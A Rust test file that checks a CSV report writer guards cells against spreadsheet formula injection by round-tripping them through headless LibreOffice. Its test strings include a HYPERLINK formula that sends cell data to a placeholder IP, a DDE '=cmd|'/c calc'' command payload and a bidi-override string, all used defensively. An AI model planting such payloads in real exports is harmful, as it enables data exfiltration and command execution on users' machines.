//! `LibreOffice` reads the CSV that is written: cells that hold what was written, run nothing, and lose
//! no digit. It writes them out again, text in quotes and numbers without, and that is compared.

#![expect(
    clippy::panic,
    clippy::unwrap_used,
    reason = "a test fails by panicking, in its helpers too"
)]

use std::path::Path;
use std::process::Command;

use capf::report::{Cell, Column, Delimiter, Dialect, Format, Writer};

#[path = "support/installed.rs"]
mod installed;

const COLUMNS: &[Column] = &[
    Column {
        key: "description",
        label: "Description",
    },
    Column {
        key: "key_size",
        label: "Key Size",
    },
];

/// What a spreadsheet leaves alone, some of it because it is guarded.
const TEXTS: &[&str] = &[
    "Reception",
    "",
    "Büro im 2. Stock, \"Süd\"; links\u{a0}😀",
    "two\nlines",
    "\u{202e}evil\u{202c}\tA",
    "=1+1",
    "=HYPERLINK(\"http://192.0.2.1/?\"&A1)",
    "=cmd|'/c calc'!A1",
    "+49 30 123",
    "+1",
    "-1",
    "@SUM(1;2)",
    "\t=1+1",
    "'=1+1",
    "'Ndrangheta",
    "0123",
    "1e10",
    "12345678901234567890",
    "2031-01-31T18:00:00Z",
    "****",
    "10.0.0.1",
];

/// The texts as `LibreOffice` has them in its cells when it has read them in this dialect.
fn as_read(soffice: &Path, dialect: Dialect, texts: &[&str]) -> Vec<String> {
    let mut csv = Writer::new(Format::Csv(dialect), COLUMNS, Vec::new()).unwrap();
    for text in texts {
        csv.row(&[(*text).into(), Cell::Integer(2048)]).unwrap();
    }
    let directory = tempfile::tempdir().unwrap();
    let file = directory.path().join("report.csv");
    std::fs::write(&file, csv.finish().unwrap()).unwrap();
    // Delimiter, quotes, UTF-8, first line; for the way out: every text in quotes, numbers as they are.
    let delimiter = dialect.delimiter.byte();
    let ended = Command::new(soffice)
        .arg(format!(
            "-env:UserInstallation=file://{}/profile",
            directory.path().display()
        ))
        .arg("--headless")
        .arg(format!(
            "--infilter=Text - txt - csv (StarCalc):{delimiter},34,76,1"
        ))
        .args([
            "--convert-to",
            "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,true,false",
        ])
        .arg("--outdir")
        .arg(directory.path().join("out"))
        .arg(&file)
        .output()
        .unwrap();
    let written = std::fs::read_to_string(directory.path().join("out/report.csv"))
        .unwrap_or_else(|error| panic!("{error}: {}", String::from_utf8_lossy(&ended.stderr)));
    let mut rest = written
        .strip_prefix("\"Description\",\"Key Size\"\n")
        .unwrap_or_else(|| panic!("{written}"));
    // Quotes are kept: they tell text from numbers.
    let mut cells = Vec::new();
    while let Some((cell, behind)) = rest.split_once(",2048\n") {
        cells.push(cell.to_owned());
        rest = behind;
    }
    assert_eq!((rest, cells.len()), ("", texts.len()), "{written}");
    cells
}

/// The text as a cell that is text.
fn quoted(text: &str) -> String {
    if text.is_empty() {
        String::new()
    } else {
        format!("\"{}\"", text.replace('"', "\"\""))
    }
}

/// What stands in the cell of CSV.
fn written(dialect: Dialect, text: &str) -> String {
    let mut csv = Writer::new(Format::Csv(dialect), &COLUMNS[..1], Vec::new()).unwrap();
    csv.row(&[text.into()]).unwrap();
    let written = csv.finish().unwrap();
    let mut reader = csv::ReaderBuilder::new()
        .delimiter(dialect.delimiter.byte())
        .from_reader(&written[..]);
    reader.records().next().unwrap().unwrap()[0].to_owned()
}

#[test]
fn libreoffice_reads_what_was_written_as_text() {
    let Some(soffice) = installed::installed("soffice") else {
        return;
    };
    for (delimiter, byte_order_mark) in [(Delimiter::Comma, false), (Delimiter::Semicolon, true)] {
        let dialect = Dialect {
            delimiter,
            byte_order_mark,
            verbatim: false,
        };
        let read = as_read(&soffice, dialect, TEXTS);
        for (text, read) in TEXTS.iter().zip(read) {
            let written = written(dialect, text);
            assert!(written.ends_with(text), "{written:?}: {text:?}");
            assert_eq!(read, quoted(&written), "{text:?}");
        }
    }
}

#[test]
fn libreoffice_changes_what_is_written_verbatim() {
    let Some(soffice) = installed::installed("soffice") else {
        return;
    };
    let verbatim = Dialect {
        verbatim: true,
        ..Dialect::default()
    };
    let texts = ["=1+1", "+1", "0123", "1e10", "12345678901234567890"];
    for (text, read) in texts.iter().zip(as_read(&soffice, verbatim, &texts)) {
        assert_ne!(read, quoted(text));
    }
}
